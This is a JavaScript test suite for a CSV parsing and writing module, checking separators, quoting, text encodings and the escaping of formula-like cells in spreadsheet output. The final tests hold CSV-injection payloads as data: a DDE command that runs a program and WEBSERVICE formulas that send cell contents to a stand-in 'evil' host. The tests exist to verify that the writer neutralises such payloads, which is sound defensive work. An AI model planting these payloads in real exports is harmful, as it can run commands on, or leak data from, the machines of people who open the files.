// Files as spreadsheets write them, a case a line: `node --test web/test/csv.test.js`.

import assert from 'node:assert/strict';
import test from 'node:test';

import { isLikeFormula, records, table, written, writtenForSpreadsheets } from '../csv.js';

const utf8 = (text) => new TextEncoder().encode(text);
const utf16 = (text, isBigEndian) => Uint8Array.from([...text].flatMap((letter) => {
  const [high, low] = [letter.charCodeAt(0) >> 8, letter.charCodeAt(0) & 255];
  return isBigEndian ? [high, low] : [low, high];
}));
// These letters are their own bytes in Windows-1252. Node reads others otherwise than browsers do; test_files.py has one.
const windows = (text) => Uint8Array.from([...text].map((letter) => letter.charCodeAt(0)));

/** What the case is, the bytes, and the rows: the spreadsheet's number of each and its fields. */
const CASES = [
  ['commas', utf8('id,name\na,Ann\n'), [[1, 'id', 'name'], [2, 'a', 'Ann']]],
  ['no line end at the end', utf8('id,name\na,Ann'), [[1, 'id', 'name'], [2, 'a', 'Ann']]],
  ['an empty field at the end', utf8('id,name\na,'), [[1, 'id', 'name'], [2, 'a', '']]],
  ['CR and LF', utf8('id,name\r\na,Ann\r\n'), [[1, 'id', 'name'], [2, 'a', 'Ann']]],
  ['CR alone', utf8('id,name\ra,Ann\r'), [[1, 'id', 'name'], [2, 'a', 'Ann']]],
  ['semicolons', utf8('id;name\na;Ann, B.\n'), [[1, 'id', 'name'], [2, 'a', 'Ann, B.']]],
  ['tabs', utf8('id\tname\na\tAnn, B.; C.\n'), [[1, 'id', 'name'], [2, 'a', 'Ann, B.; C.']]],
  ['a comma in each name', utf8('Roe, Ann;1\nSim, Zoë;2\n'), [[1, 'Roe, Ann', '1'], [2, 'Sim, Zoë', '2']]],
  ['a comma in each number', utf8('1,7\ta\n1,3\tb\n'), [[1, '1,7', 'a'], [2, '1,3', 'b']]],
  ['numbers alone', utf8('1,23\n2,45\n'), [[1, '1', '23'], [2, '2', '45']]],
  ['sep=; is no row', utf8('sep=;\r\nid;name\r\na;Ann\r\n'), [[1, 'id', 'name'], [2, 'a', 'Ann']]],
  ['sep=| is no row', utf8('SEP=|\nid|name\na|Ann\n'), [[1, 'id', 'name'], [2, 'a', 'Ann']]],
  ['a byte-order mark', utf8('\ufeffid,name\na,Ann\n'), [[1, 'id', 'name'], [2, 'a', 'Ann']]],
  ['a byte-order mark before sep=', utf8('\ufeffsep=;\nid;name\na;Ann\n'), [[1, 'id', 'name'], [2, 'a', 'Ann']]],
  ['quotes around a separator', utf8('id,name\na,"Roe, Ann"\n'), [[1, 'id', 'name'], [2, 'a', 'Roe, Ann']]],
  ['doubled quotes', utf8('id,name\na,"Ann ""B"" C"\n'), [[1, 'id', 'name'], [2, 'a', 'Ann "B" C']]],
  ['a quote in the midst is a letter', utf8('id,name\na,Ann 5" B\n'), [[1, 'id', 'name'], [2, 'a', 'Ann 5" B']]],
  ['a line break in quotes is one row', utf8('id,name\na,"Ann\nB"\nb,Bea\n'), [[1, 'id', 'name'], [2, 'a', 'Ann\nB'], [3, 'b', 'Bea']]],
  ['a quoted header', utf8('"id";"name"\n"a";"Ann"\n'), [[1, 'id', 'name'], [2, 'a', 'Ann']]],
  ['blank rows count and are left out', utf8('id,name\n\na,Ann\n,\n , \nb,Bea\n\n'), [[1, 'id', 'name'], [3, 'a', 'Ann'], [6, 'b', 'Bea']]],
  ['blank rows before the header', utf8('\n;\nid;name\na;Ann\n'), [[3, 'id', 'name'], [4, 'a', 'Ann']]],
  ['one column', utf8('id\na\n'), [[1, 'id'], [2, 'a']]],
  ['rows of another width', utf8('id,name\na\nb,Bea,more\n'), [[1, 'id', 'name'], [2, 'a'], [3, 'b', 'Bea', 'more']]],
  ['an open quote takes the rest', utf8('id,name\na,"Ann\nb,Bea\n'), [[1, 'id', 'name'], [2, 'a', 'Ann\nb,Bea\n']]],
  ['UTF-16 with its mark', Uint8Array.from([0xff, 0xfe, ...utf16('id\tname\r\na\tZoë ☃\r\n')]), [[1, 'id', 'name'], [2, 'a', 'Zoë ☃']]],
  ['UTF-16, the other order', Uint8Array.from([0xfe, 0xff, ...utf16('id;name\na;Zoë\n', true)]), [[1, 'id', 'name'], [2, 'a', 'Zoë']]],
  ['UTF-16 without a mark', utf16('id;name\na;Zoë\n'), [[1, 'id', 'name'], [2, 'a', 'Zoë']]],
  ['UTF-16 without a mark, the other order', utf16('id;name\na;Zoë\n', true), [[1, 'id', 'name'], [2, 'a', 'Zoë']]],
  ['Windows-1252', windows('id;name\na;Zoë Müller\n'), [[1, 'id', 'name'], [2, 'a', 'Zoë Müller']]],
  ['nothing', utf8(''), []],
  ['blank rows alone', utf8('\n,,\n , \n'), []],
];

test('files of spreadsheets', () => {
  for (const [what, bytes, rows] of CASES) assert.deepEqual(table(bytes).rows.map(({ row, fields }) => [row, ...fields]), rows, what);
});

test('how a file was read is told', () => {
  const told = (bytes) => [table(bytes).encoding, table(bytes).separator];
  assert.deepEqual(told(utf8('id,näme\n')), ['utf-8', ',']);
  assert.deepEqual(told(utf8('id;näme\n')), ['utf-8', ';']);
  assert.deepEqual(told(windows('id\tnäme\n')), ['windows-1252', '\t']);
  assert.deepEqual(told(utf16('id;name\n')), ['utf-16le', ';']);
  assert.deepEqual(told(utf16('id;name\n', true)), ['utf-16be', ';']);
});

test('what is no table of text is told', () => {
  const of = (...bytes) => table(Uint8Array.from(bytes)).fault;
  assert.equal(of(0x50, 0x4b, 0x03, 0x04, 0x14, 0x00), 'workbook');
  assert.equal(of(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1), 'workbook');
  assert.equal(of(0x25, 0x50, 0x44, 0x46, 0x00, 0x01), 'noText');
  assert.equal(table(utf8('id,name\n')).fault, undefined);
});

test('records, blank ones too', () => {
  assert.deepEqual([...records('a,b\n\nc')], [['a', 'b'], [''], ['c']]);
  assert.deepEqual([...records('')], []);
  assert.deepEqual([...records('""')], [['']]);
});

test('what is written is read again', () => {
  const rows = [['a,b', 'c"d', 'e\nf'], ['', ' g ', 'h;i'], ['\r', '"', '']];
  assert.deepEqual([...records(written(rows))], rows);
  assert.equal(written([['a', 'b, c']]), 'a,"b, c"\n');
  assert.equal(written([['a;b', 'c,d', 'e']], ';'), '"a;b";c,d;e\n');
  assert.equal(writtenForSpreadsheets([['a;b', 'c,d', 'e']], ';'), '"a;b";"c,d";e\n');
});

test('what is written for spreadsheets has no formula, and is read as it was meant', () => {
  const cells = ['=1+1', '+49', '-1', '@a', '\ta', '\ra', "'=a", "''=a", "'a", "'", 'a=b', ' =a', '', '=', 'É'];
  const text = writtenForSpreadsheets([cells]);
  assert.deepEqual([...records(text)][0].filter(isLikeFormula), []);
  assert.deepEqual([...records(text)][0].slice(0, 9), ["'=1+1", "'+49", "'-1", "'@a", "'\ta", "'\ra", "''=a", "'''=a", "'a"]);
  assert.deepEqual(table(utf8(text)).rows[0].fields, cells);
  assert.equal(table(utf8("id,name\na,'=a\n")).rows[1].fields[1], '=a');
  assert.equal(written([['=1+1']]), '=1+1\n');
});

test('where a spreadsheet begins a new cell at a comma, a semicolon or a tab, there is no formula either', () => {
  const cells = ['Foo;http://evil/?;=WEBSERVICE(B2&A3);x', 'a\t+1', '\t=1', 'a;"=1"', "a;'=1", '＝1', 'a;＠b', 'a;b', 'a; =1', "a;'b"];
  const text = writtenForSpreadsheets([['id', ...cells]]);
  assert.deepEqual([...records(text)][0].slice(1), [
    "Foo;http://evil/?;'=WEBSERVICE(B2&A3);x", "a\t'+1", "'\t'=1", 'a;\'"=1"', "a;''=1", "'＝1", "a;'＠b", 'a;b', 'a; =1', "a;'b",
  ]);
  for (const separator of [',', ';', '\t']) assert.deepEqual([...records(text, separator)][0].filter((cell) =>
    /^[=+\-@\t\r＝＋－＠]/.test(cell)), []);
  assert.deepEqual(table(utf8(text)).rows[0].fields.slice(1), cells);
  assert.deepEqual(cells.map(isLikeFormula), [true, true, true, true, false, true, true, false, false, false]);
  assert.deepEqual([...records(text)][0].filter(isLikeFormula), []);
});

test('of a file with semicolons, too, no separator begins a cell that is a formula', () => {
  const cells = ["Foo,=cmd|'/C calc'!A0,x", 'Foo,http://e/?,=WEBSERVICE(B2&D2),x', 'a,"=1"', "a,'=1", 'Roe, Bea', 'a,b;-c\t@d', ',+1'];
  const row = ['S1', ...cells, 'abcd-efgh-ijkm-npqr'];
  for (const separator of [';', ',']) {
    const text = writtenForSpreadsheets([row.map(() => 'name'), row], separator);
    for (const cut of [',', ';', '\t']) {
      const formulas = [...records(text, cut)].flat().filter((cell) => /^[=+\-@\t\r＝＋－＠]/.test(cell));
      assert.deepEqual(formulas, [], `written with ${separator}, cut at ${cut}`);
    }
    assert.deepEqual(table(utf8(text)).rows[1].fields, row);
  }
});
